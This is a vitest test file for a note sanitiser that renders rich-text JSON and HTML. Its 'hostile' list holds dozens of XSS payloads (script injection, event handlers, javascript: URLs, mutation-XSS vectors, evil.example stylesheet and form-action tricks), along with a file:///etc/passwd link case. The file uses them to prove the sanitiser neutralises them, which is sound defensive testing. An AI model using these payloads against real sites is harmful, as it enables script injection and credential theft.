import { describe, expect, test } from 'vitest';
import { NOTE_LIMIT } from '#blocks/note/contract.ts';
import { noteContent } from './content.ts';

const doc = (...content: unknown[]) => JSON.stringify({ type: 'doc', content });
const p = (...content: unknown[]) => ({ type: 'paragraph', content });
const t = (text: string, ...marks: unknown[]) => ({
  type: 'text',
  text,
  ...(marks.length > 0 ? { marks } : {}),
});
const ID = '65f000000000000000000001';

/** A document with one of everything a note can hold. */
const everything = doc(
  ...[1, 2, 3].map((level) => ({ type: 'heading', attrs: { level }, content: [t(`Heading ${level}`)] })),
  p(
    t('bold', { type: 'bold' }),
    t('italic', { type: 'italic' }),
    t('under', { type: 'underline' }),
    t('struck', { type: 'strike' }),
    t('code', { type: 'code' }),
  ),
  p(
    t('a link', { type: 'link', attrs: { href: 'https://example.org/?a=1&b="2"' } }),
    { type: 'hardBreak' },
    t('red', { type: 'textColor', attrs: { color: 'red' } }),
    { type: 'mention', attrs: { id: ID, label: 'Ilse Okafor' } },
  ),
  p(t('marked', { type: 'highlight', attrs: { color: 'green' } }), t(' on '), {
    type: 'date',
    attrs: { date: '2028-02-29' },
  }),
  p(...['POST', 'BOARD'].map((type) => ({ type: 'reference', attrs: { type, id: ID } }))),
  { type: 'callout', attrs: { tone: 'warning' }, content: [p(t('wet paint'))] },
  { type: 'blockquote', content: [p(t('quoted'))] },
  {
    type: 'bulletList',
    content: [
      {
        type: 'listItem',
        content: [
          p(t('one')),
          { type: 'bulletList', content: [{ type: 'listItem', content: [p(t('nested'))] }] },
        ],
      },
    ],
  },
  { type: 'orderedList', attrs: { start: 3 }, content: [{ type: 'listItem', content: [p(t('three'))] }] },
  {
    type: 'taskList',
    content: [true, false].map((checked) => ({
      type: 'taskItem',
      attrs: { checked },
      content: [p(t(`task ${checked}`))],
    })),
  },
  { type: 'codeBlock', attrs: { language: 'c++' }, content: [t('if (a < b && c > d) {\n  "x";\n}')] },
  { type: 'horizontalRule' },
  {
    type: 'table',
    content: [
      {
        type: 'tableRow',
        content: [
          { type: 'tableHeader', content: [p(t('head'))] },
          { type: 'tableHeader', content: [p()] },
        ],
      },
      {
        type: 'tableRow',
        content: [{ type: 'tableCell', attrs: { colspan: 2, align: 'right' }, content: [p(t('wide'))] }],
      },
    ],
  },
);

describe('what a note can hold', () => {
  test('is rendered as the schema says, and safely', async () => {
    const { body, plain } = await noteContent({ bodyRaw: everything });
    expect(body).toBe(
      '<h1>Heading 1</h1><h2>Heading 2</h2><h3>Heading 3</h3>' +
        '<p><strong>bold</strong><em>italic</em><u>under</u><s>struck</s><code>code</code></p>' +
        '<p><a href="https://example.org/?a=1&amp;b=&quot;2&quot;" target="_blank" rel="noopener noreferrer nofollow">a link</a><br />' +
        `<span data-color="red">red</span><span data-mention="${ID}">@Ilse Okafor</span></p>` +
        '<p><mark data-color="green">marked</mark> on <time datetime="2028-02-29">29 February 2028</time></p>' +
        `<p><a data-reference="POST" href="/posts/${ID}">a post</a><a data-reference="BOARD" href="/boards/${ID}">a board</a></p>` +
        '<div data-callout="warning"><p>wet paint</p></div>' +
        '<blockquote><p>quoted</p></blockquote>' +
        '<ul><li><p>one</p><ul><li><p>nested</p></li></ul></li></ul><ol start="3"><li><p>three</p></li></ol>' +
        '<ul data-type="taskList">' +
        '<li data-checked="true" data-type="taskItem"><label><input checked="checked" type="checkbox" disabled /><span></span></label><div><p>task true</p></div></li>' +
        '<li data-checked="false" data-type="taskItem"><label><input type="checkbox" disabled /><span></span></label><div><p>task false</p></div></li></ul>' +
        '<pre><code class="language-c++">if (a &lt; b &amp;&amp; c &gt; d) {\n  "x";\n}</code></pre><hr />' +
        '<table><colgroup><col /><col /></colgroup><tbody><tr><th><p>head</p></th><th><p></p></th></tr><tr><td colspan="2" align="right"><p>wide</p></td></tr></tbody></table>',
    );
    expect(plain.split('\n').slice(0, 9)).toEqual([
      'Heading 1',
      'Heading 2',
      'Heading 3',
      'bolditalicunderstruckcode',
      'a link',
      'red@Ilse Okafor',
      'marked on 29 February 2028',
      'a posta board',
      'wet paint',
    ]);
  });

  test('comes back from its own HTML as it was, and stays so', async () => {
    const first = await noteContent({ bodyRaw: everything });
    expect(await noteContent({ body: first.body })).toEqual(first);
    expect(await noteContent({ bodyRaw: first.bodyRaw })).toEqual(first);
  });

  test.each([
    [
      'other editors’ tags',
      '<b>a</b><i>b</i><del>c</del><strike>d</strike><h5>e</h5>',
      '<p><strong>a</strong><em>b</em><s>cd</s></p><h3>e</h3>',
    ],
    ['text alone', 'one & two', '<p>one &amp; two</p>'],
    ['nothing', '', '<p></p>'],
    ['wrong nesting', '<p>a<ul><li>b</p>c</ul>', '<p>a</p><ul><li><p>b</p><p></p><p>c</p></li></ul>'],
    ['an item without a list', '<li>a</li>', '<ul><li><p>a</p></li></ul>'],
    ['a line break', 'a<br>b', '<p>a<br />b</p>'],
    ['a picture, which is no part of a note', 'a<img src="https://example.org/x.png">b', '<p>ab</p>'],
    ['entities', '&lt;script&gt;&amp;amp;', '<p>&lt;script&gt;&amp;amp;</p>'],
    [
      'cells whose words stand somewhere, by a style or not',
      '<table><tr><td style="text-align: right">a</td><td align="center">b</td><td align="evil">c</td></tr></table>',
      '<table><colgroup><col /><col /><col /></colgroup><tbody><tr><td align="right"><p>a</p></td><td align="center"><p>b</p></td><td><p>c</p></td></tr></tbody></table>',
    ],
    [
      'marks, days and callouts of no kind that is known',
      '<p><mark style="x">a</mark><mark data-color="pink">b</mark> <time datetime="2026-02-30">c</time></p><div data-callout="evil">d</div>',
      '<p><mark data-color="yellow">ab</mark> c</p><p>d</p>',
    ],
    [
      'addresses of this installation that lead to no post or board',
      `<p><a data-reference="POST" href="/posts/x">a</a><a data-reference="x" href="https://evil.example/posts/${ID}">b</a><a href="/posts/${ID}">c</a></p>`,
      `<p>a<a href="https://evil.example/posts/${ID}" target="_blank" rel="noopener noreferrer nofollow">b</a>c</p>`,
    ],
    [
      'a title that somebody wrote into what leads to a post',
      `<p><a data-reference="BOARD" href="/posts/${ID}" onclick="x">Secret plans</a></p>`,
      `<p><a data-reference="POST" href="/posts/${ID}">a post</a></p>`,
    ],
    ['code as it is', '<pre>  a\n    b</pre>', '<pre><code>  a\n    b</code></pre>'],
  ])('HTML with %s', async (_, html, body) => {
    expect((await noteContent({ body: html })).body).toBe(body);
  });

  test('characters that mean nothing in a text are left out', async () => {
    const { body, plain, bodyRaw } = await noteContent({
      bodyRaw: doc(p(t('a\u0000\u0007b\ud800c'), t('\u0000'))),
    });
    expect([body, plain]).toEqual(['<p>ab\ufffdc</p>', 'ab\ufffdc']);
    expect(bodyRaw).not.toMatch(/\\u0000|\\ud800/);
  });
});

describe('documents that are none', () => {
  const nested = (depth: number): unknown =>
    depth === 0 ? p(t('deep')) : { type: 'blockquote', content: [nested(depth - 1)] };
  test.each([
    ['no JSON', '{'],
    ['null', 'null'],
    ['a list', '[]'],
    ['a text', '"doc"'],
    ['another top', JSON.stringify(p(t('x')))],
    ['an unknown node', doc({ type: 'iframe', attrs: { src: 'https://example.org' } })],
    ['a node named like a method', doc({ type: 'constructor' })],
    ['a node named __proto__', '{"type":"doc","content":[{"type":"__proto__"}]}'],
    ['an unknown mark', doc(p(t('x', { type: 'onclick' })))],
    ['a mark named like a method', doc(p(t('x', { type: 'toString' })))],
    ['a node where it may not be', doc(t('x'))],
    ['an empty document', doc()],
    ['a text that is a number', doc({ type: 'paragraph', content: [{ type: 'text', text: 1 }] })],
    ['content that is no list', doc({ type: 'paragraph', content: { length: 1 } })],
    ['marks in code', doc({ type: 'codeBlock', content: [t('x', { type: 'bold' })] })],
    ['the same mark twice', doc(p(t('x', { type: 'bold' }, { type: 'bold' })))],
    ['a heading of level 7', doc({ type: 'heading', attrs: { level: 7 } })],
    ['a heading of a level that is markup', doc({ type: 'heading', attrs: { level: '1><script>' } })],
    [
      'a colour that is a style',
      doc(p(t('x', { type: 'textColor', attrs: { color: 'red;background:url(//x)' } }))),
    ],
    [
      'a language that is markup',
      doc({ type: 'codeBlock', attrs: { language: '"><script>alert(1)</script>' } }),
    ],
    [
      'a cell that spans everything',
      doc({
        type: 'table',
        content: [
          { type: 'tableRow', content: [{ type: 'tableCell', attrs: { colspan: 1e9 }, content: [p()] }] },
        ],
      }),
    ],
    ['a mark in a style', doc(p(t('x', { type: 'highlight', attrs: { color: 'url(//x)' } })))],
    ['a callout of another tone', doc({ type: 'callout', attrs: { tone: 'x"onload=' }, content: [p()] })],
    ['a callout of nothing', doc({ type: 'callout', attrs: { tone: 'tip' } })],
    ['a way to nowhere', doc(p({ type: 'reference', attrs: { type: 'POST', id: '../../x' } }))],
    ['a way to a person', doc(p({ type: 'reference', attrs: { type: 'PERSON', id: ID } }))],
    ['a day that is none', doc(p({ type: 'date', attrs: { date: '2026-02-30' } }))],
    ['a day that is markup', doc(p({ type: 'date', attrs: { date: '"><script>' } }))],
    [
      'a cell aligned by a style',
      doc({
        type: 'table',
        content: [
          {
            type: 'tableRow',
            content: [{ type: 'tableCell', attrs: { align: 'left;x:y' }, content: [p()] }],
          },
        ],
      }),
    ],
    ['a mention of nobody', doc(p({ type: 'mention', attrs: { id: '../../x', label: 'x' } }))],
    ['a mention without a name', doc(p({ type: 'mention', attrs: { id: ID, label: '' } }))],
    ['nesting without end', doc(nested(50))],
    ['nesting that JSON itself can hardly take', '{"type":"doc","content":['.repeat(9000)],
    [
      'too many parts',
      doc(
        ...Array.from({ length: 8000 }, () => ({ type: 'paragraph' })),
        ...Array.from({ length: 13_000 }, () => ({ type: 'horizontalRule' })),
      ),
    ],
    [
      'too much once filled in',
      doc(...Array.from({ length: 9000 }, () => ({ type: 'paragraph' })), p(t('x'.repeat(NOTE_LIMIT)))),
    ],
    ...[
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)',
      ' javascript:alert(1)',
      'java\nscript:alert(1)',
      '\u0001javascript:alert(1)',
      'data:text/html,<script>',
      'vbscript:x',
      'file:///etc/passwd',
      '//example.org',
      '/posts/1',
      'https:',
      'blob:https://x/y',
      42,
      null,
      { toString: 'x' },
    ].map(
      (href) =>
        [`a link to ${JSON.stringify(href)}`, doc(p(t('x', { type: 'link', attrs: { href } })))] as [
          string,
          string,
        ],
    ),
  ])('are refused: %s', async (_, bodyRaw) => {
    await expect(noteContent({ bodyRaw })).rejects.toMatchObject({ code: 'INVALID' });
  });

  test('attributes the schema does not know, or a link’s own rel and target, are not kept', async () => {
    const link = {
      type: 'link',
      attrs: {
        href: 'https://example.org',
        rel: 'opener',
        target: '_top',
        class: 'x',
        onclick: 'alert(1)',
        title: 'x',
      },
    };
    const { body, bodyRaw } = await noteContent({
      bodyRaw: doc({ ...p(t('x', link)), attrs: { style: 'position:fixed', onload: 'x' } }),
    });
    expect(body).toBe(
      '<p><a href="https://example.org" target="_blank" rel="noopener noreferrer nofollow">x</a></p>',
    );
    expect(bodyRaw).not.toMatch(/opener"|_top|onclick|onload|style/);
  });
});

/** HTML that has hurt others. Whatever becomes of it, nothing of it may run, load or hide. */
const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script>',
  '<<script>alert(1);//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"',
  '<img/src=`x`onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JAVASCRIPT&colon;alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#14; javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://x" onclick="alert(1)" style="position:fixed" target="_top" rel="opener">x</a>',
  '<a href="https://x/" ping="https://evil.example" download>x</a>',
  '<p style="background:url(javascript:alert(1))" onmouseover=alert(1)>x</p>',
  '<p style="position:fixed;inset:0;z-index:99999">over everything</p>',
  '<style>@import "//evil.example/x.css"; body{display:none}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button><input type=image src=x onerror=alert(1)></form>',
  '<input autofocus onfocus=alert(1)>',
  '<input type="password" name="pw" formaction="//evil.example">',
  '<details open ontoggle=alert(1)>x</details>',
  '<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>x',
  '<div id="root" class="dialog" name="location">x</div>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)" width="1e9">x</table>',
  '<span data-color="red&quot; onmouseover=&quot;alert(1)">x</span>',
  '<span data-color="expression(alert(1))">x</span>',
  '<span data-mention="65f000000000000000000001&quot; onclick=&quot;alert(1)">@x</span>',
  '<span data-mention="65f000000000000000000001"><img src=x onerror=alert(1)>&lt;script&gt;</span>',
  '<code class="language-&quot;onload=alert(1)">x</code><pre><code class="language-x evil">y</code></pre>',
  '<ul data-type="taskList&quot;onload=alert(1)"><li data-type="taskItem" data-checked="x">y</li></ul>',
  '<ol start="1&quot;onload=alert(1)" type="x"><li>x</ol>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><?php system("id") ?><x:script>alert(1)</x:script>',
  '<p>\u2028</p><p>&#0;&#x0;</p>',
  '<button popovertarget=x onbeforetoggle=alert(1)>x</button>',
  '<a data-reference="POST" href="/posts/65f000000000000000000001&quot; onclick=&quot;alert(1)">x</a>',
  '<a data-reference="x&quot;onclick=&quot;alert(1)" href="/boards/65f000000000000000000001" target="_top">x</a>',
  '<mark data-color="red&quot; onclick=&quot;alert(1)" style="position:fixed">x</mark>',
  '<time datetime="2026-11-23&quot; onclick=&quot;alert(1)">x</time>',
  '<div data-callout="tip&quot; onclick=&quot;alert(1)"><img src=x onerror=alert(1)></div>',
  '<table><tr><td align="right&quot; onclick=&quot;alert(1)">x</table>',
  '<p is="x-evil" slot="y" part="z" contenteditable tabindex=1 accesskey=x>x</p>',
];

/** Every tag and attribute that may be in a note, as the reader's page gets it. */
const harmless =
  /^(?:[^<>]|<\/?(?:p|h[123]|blockquote|ul|ol|li|pre|hr|div|strong|em|u|s|code|mark|time|a|span|br|label|input|table|colgroup|col|tbody|tr|td|th)(?: (?:href="(?:https?:\/\/|mailto:)[^"<>]*"|href="\/(?:posts|boards)\/[0-9a-f]{24}"|data-reference="(?:POST|BOARD)"|target="_blank"|rel="noopener noreferrer nofollow"|start="\d+"|type="(?:checkbox|[1aAiI])"|class="language-[\w+#.-]+"|(?:col|row)span="\d+"|data-type="task(?:List|Item)"|data-checked="(?:true|false)"|data-color="[a-z]+"|data-callout="[a-z]+"|datetime="\d{4}-\d{2}-\d{2}"|align="(?:left|center|right)"|data-mention="[0-9a-f]{24}"|checked="checked"|disabled))*(?: \/)?>)*$/;

test.each(hostile)('stored harmless: %s', async (html) => {
  let content = await noteContent({ body: html });
  expect(content.body).toMatch(harmless);
  expect(content.body).not.toContain('\u0000');
  // The HTML of a browser's round trip, read again: markup must not turn into other markup on the way.
  for (let round = 0; round < 2; round++) {
    const again = await noteContent({ body: content.body });
    expect(again).toEqual(content);
    content = again;
  }
  expect(await noteContent({ bodyRaw: content.bodyRaw })).toEqual(content);
});

test.each(hostile)('stored harmless as text: %s', async (text) => {
  const everywhere = doc(
    p(t(text, { type: 'bold' }), {
      type: 'mention',
      attrs: { id: ID, label: text.replace(/\p{Cc}/gu, '').slice(0, 200) },
    }),
    { type: 'codeBlock', content: [t(text)] },
    p(
      t(text, {
        type: 'link',
        attrs: { href: `https://example.org/${encodeURIComponent(text)}"><script>'` },
      }),
    ),
  );
  const { body } = await noteContent({ bodyRaw: everywhere });
  expect(body).toMatch(harmless);
});

describe('time', () => {
  const paragraph =
    '<p>Hello <strong>world</strong> and a <a href="https://example.org/">link</a>, with enough text to be a sentence.</p>';
  /** Milliseconds of processor time, whatever else the machine does. */
  const bestOf = async (times: number, work: () => Promise<unknown>) => {
    let best = Infinity;
    for (let i = 0; i < times; i++) {
      const start = process.cpuUsage();
      await work();
      const { user, system } = process.cpuUsage(start);
      best = Math.min(best, (user + system) / 1000);
    }
    return best;
  };

  test('a note of 10 kB is saved within 5 ms', async () => {
    const { bodyRaw, body } = await noteContent({ body: paragraph.repeat(90) });
    expect(body.length).toBeGreaterThan(10_000);
    // On a core that is shared, processor time is longer too: 5 ms are what it takes to read and write its JSON 20 times.
    const readAndWrite = async () => {
      for (let time = 0; time < 20; time++) JSON.stringify(JSON.parse(bodyRaw));
    };
    const before = await bestOf(50, readAndWrite);
    const saving = await bestOf(200, () => noteContent({ bodyRaw }));
    expect(saving).toBeLessThan(Math.max(5, before, await bestOf(50, readAndWrite)));
  });

  test.each([
    ['paragraphs', paragraph.repeat(Math.floor(NOTE_LIMIT / paragraph.length))],
    ['open tags', '<blockquote>'.repeat(NOTE_LIMIT / 12)],
    ['less-than signs', '<'.repeat(NOTE_LIMIT)],
    ['one wide table', `<table><tr>${'<td>'.repeat(24_990)}`],
    ['attributes', `<p ${'a=b '.repeat(45_000)}>`],
    ['one attribute', `<p title="${'&quot;'.repeat(30_000)}">`],
    ['comments', '<!--'.repeat(NOTE_LIMIT / 4)],
    ['marks', '<b><i><u><s>'.repeat(6_249)],
    ['lists', '<ul><li>'.repeat(12_499)],
    ['text', 'x'.repeat(NOTE_LIMIT)],
  ])('up to 200 kB of %s end within a second, kept or refused', async (_, body) => {
    const read = () =>
      noteContent({ body }).catch((error: unknown) => expect(error).toMatchObject({ code: 'INVALID' }));
    expect(await bestOf(2, read)).toBeLessThan(1000);
  });
});
